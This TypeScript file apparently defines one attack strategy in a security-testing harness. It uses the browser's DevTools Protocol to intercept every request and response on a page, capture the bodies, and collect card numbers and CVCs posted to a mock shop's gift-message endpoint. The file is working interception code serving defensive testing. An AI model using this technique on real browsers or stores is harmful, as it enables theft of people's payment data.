import type { Strategy } from '#scripts/attack/strategy';

/** The browser's own debugging protocol, at the moment an answer arrives. */
export const cdpResponse: Strategy = {
  name: 'debugging protocol at the response',
  channel: 'CDP Fetch, response stage',
  shops: ['mirror'],
  intercepts: /responseStatusCode/,
  async run({ page, code }) {
    await code(`page.bodies = [];
      const client = await page.context().newCDPSession(page);
      await client.send('Fetch.enable', { patterns: [{ urlPattern: '*', requestStage: 'Request' }, { urlPattern: '*', requestStage: 'Response' }] });
      client.on('Fetch.requestPaused', async (event) => {
        page.bodies.push(JSON.stringify(event));
        if (event.responseStatusCode) {
          const { body = '', base64Encoded } = await client.send('Fetch.getResponseBody', { requestId: event.requestId }).catch(() => ({}));
          page.bodies.push(base64Encoded ? atob(body) : body);
        }
        await client.send('Fetch.continueRequest', { requestId: event.requestId }).catch(() => {});
      });
      return 'held';`);
    await page(
      "return said(await post('/gift-message', form({ card_number: number, card_cvc: code }), json))",
    );
    await code("return page.bodies.join('\\n');", 'CDP Fetch, response stage');
  },
};
